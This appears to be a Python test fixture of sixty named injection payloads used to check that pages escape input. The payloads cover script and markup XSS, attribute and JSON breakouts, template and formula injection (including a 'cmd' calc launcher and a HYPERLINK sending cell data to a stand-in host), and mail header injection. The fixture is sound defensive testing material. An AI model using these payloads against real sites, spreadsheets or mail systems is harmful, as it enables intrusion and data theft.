"""Sixty known ways to do harm with a text: each by its name, and none of them needs a network.

What would run sets `window.__ran`, which no page of ours has.
"""

RAN = "window.__ran=1"

SCRIPTS = {
    "script": f"<script>{RAN}</script>",
    "script in capitals": f"<SCRIPT>{RAN}</SCRIPT>",
    "script after a broken tag": f"<<script>{RAN}//<</script>",
    "script that ends a script": f"</script><script>{RAN}</script>",
    "script that ends a title": f"</title><script>{RAN}</script>",
    "script that ends a text field": f"</textarea><script>{RAN}</script>",
    "script that ends a style": f"</style><script>{RAN}</script>",
    "script that ends a comment": f"--><script>{RAN}</script><!--",
    "script within CDATA": f"]]><script>{RAN}</script><![CDATA[",
    "script in a template element": f"</template><script>{RAN}</script>",
    "module script by data": "<script type=module src='data:text/javascript,window.__ran=1'>",
    "script without a closing tag": f"<script>{RAN}//",
}
MARKUP = {
    "picture that fails": f"<img src=x onerror={RAN}>",
    "picture with a slash for a space": f"<img/src='x'/onerror={RAN}>",
    "picture never closed": f"<img src=x onerror={RAN} ",
    "drawing that loads": f"<svg onload={RAN}>",
    "drawing with a script": f"<svg><script>{RAN}</script></svg>",
    "drawing that animates a link": (
        "<svg><a><animate attributeName=href values=javascript:window.__ran=1 /><text>x</text></a>"
    ),
    "formula that hides a style": f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}>",
    "noscript that hides a picture": f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    "details that open": f"<details open ontoggle={RAN}>",
    "video whose source fails": f"<video><source onerror={RAN}></video>",
    "frame with a page": f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "frame with a script": "<iframe src=javascript:parent.__ran=1></iframe>",
    "object with a script": "<object data=javascript:window.__ran=1></object>",
    "field that takes the focus": f"<input autofocus onfocus={RAN}>",
    "body that loads": f"<body onload={RAN}>",
    "form that goes elsewhere": "</form><form action=https://elsewhere.test><button>OK</button>",
    "base of every link": "<base href=https://elsewhere.test/>",
    "page that moves on": "<meta http-equiv=refresh content='0;url=https://elsewhere.test/'>",
    "style for the whole page": "<style>*{display:none!important}</style>",
    "sheet from elsewhere": "<link rel=stylesheet href=https://elsewhere.test/a.css>",
}
ATTRIBUTES = {
    "double quote and handler": f'" autofocus onfocus="{RAN}" x="',
    "single quote and handler": f"' autofocus onfocus='{RAN}' x='",
    "back quote and handler": f"` autofocus onfocus={RAN} x=`",
    "quote and script": f'"><script>{RAN}</script>',
    "handler without quotes": f" onmouseover={RAN} ",
    "style within an attribute": '" style="position:fixed;inset:0;background:red" x="',
    "entities": "&lt;script&gt;window.__ran=1&lt;/script&gt;&#34;&#x3c;",
}
URLS = {
    "script for an address": "javascript:window.__ran=1",
    "script for an address, in disguise": "java\tscript:window.__ran=1",
    "page for an address": "data:text/html,<script>window.__ran=1</script>",
    "address elsewhere without a scheme": "//elsewhere.test/%0d%0aSet-Cookie:%20a=b",
}
TEMPLATES = {
    "variable of a template": "{{ settings.SECRET_KEY }}{{ 7|add:7 }}",
    "tag of a template": "{% debug %}{% include 'admin/base.html' %}",
    "format of Python": "{0.__class__.__init__.__globals__}%(password)s%s%n",
    "merge tag of a mail service": "*|EMAIL|*|*|HTML:FNAME|*",
    "literal of JavaScript": "${window.__ran=1}'-window.__ran=1-'\\';window.__ran=1//",
}
JSON = {
    "end of a JSON text": '"},"x":{"y":"</script><script>window.__ran=1</script>',
    "backslash at the end": "name\\",
}
TABLES = {
    "formula": '=HYPERLINK("https://elsewhere.test/?"&A1,"x")',
    "formula with a plus": "+1+cmd|'/C calc'!A0",
    "formula with a minus": "-2+3+cmd|'/C calc'!A0",
    "formula with an at sign": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula in the second cell": 'x",=1+1,"y;=1+1',
}
LINES_AND_LETTERS = {
    "mail header": "Ada\r\nBcc: everybody@elsewhere.test\r\nSubject: Your marriage",
    "null and other control characters": "A\x00d\x01a\x0b\x1b[31m\x7f\x85\u2028x",
    "text that runs backwards": "\u202egnp.exe\u2066abc\u2069\u200f",
    "emoji and combining marks": "👩‍❤️‍👩 " + "Z" + "\u0301\u0335\u0488" * 40 + "algo",
    "very long": "W" * 20_000,
}
PAYLOADS: dict[str, str] = {
    **SCRIPTS,
    **MARKUP,
    **ATTRIBUTES,
    **URLS,
    **TEMPLATES,
    **JSON,
    **TABLES,
    **LINES_AND_LETTERS,
}
# What a browser would run where a page forgot to escape: the worst of each kind.
WORST = (
    "script that ends a script",
    "script that ends a title",
    "picture that fails",
    "drawing that loads",
    "double quote and handler",
    "single quote and handler",
    "script for an address",
    "end of a JSON text",
    "style for the whole page",
    "text that runs backwards",
)
